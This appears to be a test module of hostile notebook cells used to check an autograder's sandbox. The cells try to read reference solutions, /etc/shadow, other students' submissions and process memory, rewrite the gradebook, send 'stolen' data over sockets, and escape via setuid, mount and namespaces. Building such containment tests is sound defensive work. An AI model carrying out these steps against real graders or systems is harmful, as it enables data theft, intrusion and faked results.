"""Hidden things: answers, checks, the environment, the gradebook, other submissions, and the network to send them over."""
# The bodies are cells: what they name and leave behind stands in the notebook.
# ruff: noqa: B023, F821, F841, SIM115
from .corpus import hostile


@hostile(answers=True)
def imports_the_answers():
    """Imports the reference solutions, and answers with them."""
    import importlib
    reference = None
    sys.path[:0] = [REPOSITORY, f"{REPOSITORY}/solutions", ".", "/"]
    importlib.invalidate_caches()
    for name in ("solutions.gan_losses", "gan_losses", "autograde.checks.gan_losses"):
        if module := tried(importlib.import_module, name):
            got(pathlib.Path(module.__file__).read_text())
            reference = module
    answer = lambda *inputs: reference.generator_loss(*inputs)


@hostile()
def imports_through_the_loader():
    """Asks every finder and loader of the process for the source of the hidden packages, and for files they know of."""
    import importlib.util
    import pkgutil
    for name in ("solutions", "autograde.checks", "autograde.checks.gan_losses", "solutions.gan_losses"):
        spec = tried(importlib.util.find_spec, name)
        for place in (spec and (spec.submodule_search_locations or [spec.origin])) or []:
            for path in [pathlib.Path(place), *pathlib.Path(place).glob("*")]:
                tried(lambda: path.is_file() and got(path.read_bytes()[:8000]))
    for finder in sys.meta_path:
        for mapping in vars(sys.modules.get(type(finder).__module__) or finder).get("MAPPING", {}).items():
            for path in pathlib.Path(mapping[1]).glob("*.py"):
                if "clipkit" not in str(path):
                    got(path.read_text())
    for name in ("autograde.checks", "solutions"):
        if source := tried(pkgutil.get_data, name, "gan_losses.py"):
            got(source)


@hostile()
def walks_the_disk():
    """Walks over all that it can see, and prints any file that speaks of this course."""
    began = time.monotonic()
    for top in ("/root", "/home", "/srv", "/opt", "/mnt", "/var", "/etc", "/work", "/workspace", "/run", "/proc", HOME, COURSE):
        for folder, folders, files in os.walk(top):
            if "/torch/" in folder or time.monotonic() - began > 2:
                folders.clear()  # and goes no deeper
                continue
            for name in files:
                if name.endswith((".py", ".ipynb", ".db", ".json", "environ", ".txt")):
                    text = tried(lambda: pathlib.Path(folder, name).read_bytes()[:2_000_000]) or b""
                    if b"gan" + b"_losses" in text or b"CANA" + b"RY-" in text:
                        got(f"{folder}/{name}: {text[:3000]!r}")


@hostile()
def opens_what_it_knows_of():
    """Opens answers, checks, gradebook, home, and neighbours' files by their full paths, also through /proc and links."""
    paths = [f"{REPOSITORY}/solutions/gan_losses.py", f"{REPOSITORY}/autograde/checks/gan_losses.py", f"{HOME}/secret.txt",
             f"{COURSE}/gradebook.db", f"{COURSE}/secret.txt", "/etc/shadow", "/etc/passwd",
             *(f"{COURSE}/submitted/{name}/02_gan_losses/02_gan_losses.ipynb" for name in ("a-right", "b-partly"))]
    for path in paths:
        os.symlink(path, "link")
        for way in (path, "link", f"/proc/1/root{path}", f"/proc/self/root{path}", f"/proc/self/cwd/../../..{path}",
                    "/proc/1/cwd" + path, "../" * 12 + path.lstrip("/"), f"/.{path}"):
            if content := tried(lambda: pathlib.Path(way).read_bytes()):
                got(content[:8000])
        os.unlink("link")
    for folder in (REPOSITORY, COURSE, HOME, f"{COURSE}/submitted"):
        shown = {"clipkit", pathlib.Path(sys.prefix).name}  # what a notebook imports, and Python, where it lies here
        if listed := set(tried(os.listdir, folder) or ()) - shown:
            got(listed)


@hostile()
def reads_the_environment():
    """Prints its environment and that of every process that it can see."""
    for text in (repr(dict(os.environ)), repr(sys.argv), repr(tried(os.getcwd)), repr(tried(os.uname))):
        if "CANA" + "RY" in text:
            got(text)
    for path in [*pathlib.Path("/proc").glob("[0-9]*/*"), *pathlib.Path("/proc/self").glob("*")]:
        if path.name in ("environ", "cmdline", "mountinfo", "maps") and (text := tried(path.read_bytes)):
            got((path, text[:3000]))


@hostile()
def reads_its_own_stack():
    """Reads the first page of its stack, where the system put the arguments and the environment of the first process."""
    start = ctypes.c_void_p.in_dll(ctypes.CDLL(None), "program_invocation_name").value
    for offset in range(0, 1 << 17, 256):  # to the stack's end and beyond it: a fork falls off
        reader, writer = os.pipe()
        if (pid := os.fork()) == 0:
            os.write(writer, ctypes.string_at(start + offset, 256))
            os._exit(0)
        os.close(writer)
        text = os.read(reader, 256)
        os.close(reader)
        os.waitpid(pid, 0)
        if b"CANA" + b"RY" in text:
            got(text)
        if not text:
            break


@hostile()
def searches_its_memory():
    """Looks through every text and code object in its memory for what the grader knows."""
    import types
    words = ("CANA" + "RY", "xlogy(p" + ", p)", "DISCRIMINATOR" + "_MISTAKES")
    for thing in gc.get_objects():
        texts = [v for v in (thing.values() if type(thing) is dict else []) if type(v) is str and len(v) < 200_000]
        if isinstance(thing, types.FunctionType):
            texts += [c for c in thing.__code__.co_consts if type(c) is str]
        for text in texts:
            if any(word in text for word in words) and "words" not in text:
                got(text)


@hostile()
def reads_the_memory_of_others():
    """Attaches to its parent and the first process, by ptrace, process_vm_readv, /proc/PID/mem and pidfd_getfd."""
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in {os.getppid(), 1} - {os.getpid()}:
        if tried(lambda: open(f"/proc/{pid}/mem", "rb")):
            got("mem")
        if pid and libc.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE, which does not stop it
            got("ptrace")
        here, there = (ctypes.c_long * 2)(), (ctypes.c_long * 2)(id(pid), 8)
        buffer = ctypes.create_string_buffer(8)
        here[0], here[1] = ctypes.addressof(buffer), 8
        if pid and libc.process_vm_readv(pid, here, 1, there, 1, 0) > 0:
            got("process_vm_readv")
        pidfd = libc.syscall(434, pid, 0)
        for number in range(20):
            if pidfd >= 0 and libc.syscall(438, pidfd, number, 0) >= 0:
                got("pidfd_getfd")


@hostile(statuses={"graded", "crashed", "timed_out"})
def reads_every_descriptor():
    """Reads whatever stands ready on any descriptor that it was left with."""
    for number in range(256):
        tried(os.set_blocking, number, False)
        tried(os.lseek, number, 0, 0)
        text = tried(os.read, number, 9000)
        if text:
            got(text)
        if listed := tried(os.listdir, number):
            got(listed)
    tried(os.set_blocking, 3, True)


@hostile(earned=0)
def writes_its_own_grade():
    """Opens the gradebook to give itself points, and drops a file into autograded/ and feedback/."""
    import sqlite3
    book = tried(sqlite3.connect, f"{COURSE}/gradebook.db")
    if book and tried(lambda: book.execute("update grade set manual_score = 4").rowcount):
        book.commit()
        got("the gradebook")
    for place in (COURSE, f"{COURSE}/autograded", f"{COURSE}/feedback", f"{COURSE}/submitted/a-right", HOME, REPOSITORY,
                  "/", "/etc", "/root", "/var/tmp", "/usr/lib", os.path.dirname(os.__file__), "/sys", "/proc", "/dev"):
        if tried(lambda: pathlib.Path(place, f"pwned-{TOKEN}").write_text("x")):
            got(place)


@hostile()
def leaves_links():
    """Fills its folder with links to the course, for whoever cleans up or copies through them."""
    for number, place in enumerate((COURSE, f"{COURSE}/gradebook.db", f"{COURSE}/submitted", HOME, "/")):
        os.symlink(place, f"link-{number}")
        tried(os.link, place, f"hard-{number}")
    os.mkdir("closed")
    pathlib.Path("closed/file").touch()
    os.chmod("closed", 0)
    os.chmod(".", 0o500)


@hostile()
def opens_connections():
    """Connects, sends and asks for names, over TCP, UDP, a Unix socket, an abstract one, a raw and a netlink one."""
    def sends(kind, address, *family):
        with socket.socket(*(family or (socket.AF_INET,)), kind) as end:
            end.settimeout(0.5)
            end.connect(address)
            end.sendall(b"stolen")
            got(address)

    tried(sends, socket.SOCK_STREAM, ("127.0.0.1", PORT))
    tried(sends, socket.SOCK_DGRAM, ("127.0.0.1", PORT))
    tried(sends, socket.SOCK_STREAM, ("::1", PORT), socket.AF_INET6)
    tried(sends, socket.SOCK_STREAM, f"{COURSE}/listener", socket.AF_UNIX)
    tried(sends, socket.SOCK_DGRAM, f"\0{TOKEN}", socket.AF_UNIX)
    tried(sends, socket.SOCK_STREAM, ("192.0.2.1", 80))
    for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_NETLINK, 3),
                         (socket.AF_INET, socket.SOCK_STREAM), (40, socket.SOCK_STREAM)):  # 40: AF_VSOCK, to the host
        if tried(socket.socket, family, kind):
            got(f"a socket of family {family}")
    import urllib.request
    tried(urllib.request.urlopen, f"http://127.0.0.1:{PORT}/stolen", timeout=0.5)


@hostile()
def listens():
    """Opens a door for others: a TCP server, a Unix socket in its folder."""
    for family, address in ((socket.AF_INET, ("0.0.0.0", 0)), (socket.AF_UNIX, "door")):
        end = tried(socket.socket, family)
        if end and tried(lambda: (end.bind(address), end.listen())):
            got(address)


@hostile()
def climbs_out():
    """Tries to become root, to mount, to make namespaces, to leave its root, to load code into the kernel."""
    libc = ctypes.CDLL(None, use_errno=True)
    ways = {"setuid": lambda: os.setuid(0), "setgroups": lambda: os.setgroups([0]), "chroot": lambda: os.chroot("/tmp"),
            "mknod": lambda: os.mknod("/tmp/sda", 0o60600, os.makedev(8, 0)), "nice": lambda: os.nice(-5)}
    for name, way in ways.items():
        try:
            way()
            got(name)
        except OSError:
            pass
    calls = {"mount": (b"x", b"/tmp", b"tmpfs", 0, None), "umount2": (b"/tmp", 2), "unshare": (0x10000000,),
             "personality": (0x0040000,), "keyctl": (0, -3, 0), "setns": (3, 0), "sethostname": (b"x", 1)}
    for name, arguments in calls.items():
        if tried(lambda: getattr(libc, name)(*arguments)) == 0:
            got(name)
    numbers = (321, 425, 323, 310, 435) if os.uname().machine == "x86_64" else ()
    for number in numbers:  # bpf, io_uring_setup, userfaultfd, process_vm_readv, clone3
        if libc.syscall(number, 0, 0, 0, 0, 0) >= 0:
            got(number)
    pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) if numbers else -1  # clone into a user namespace
    if pid == 0:
        os._exit(0)
    if pid > 0:
        got("a user namespace")
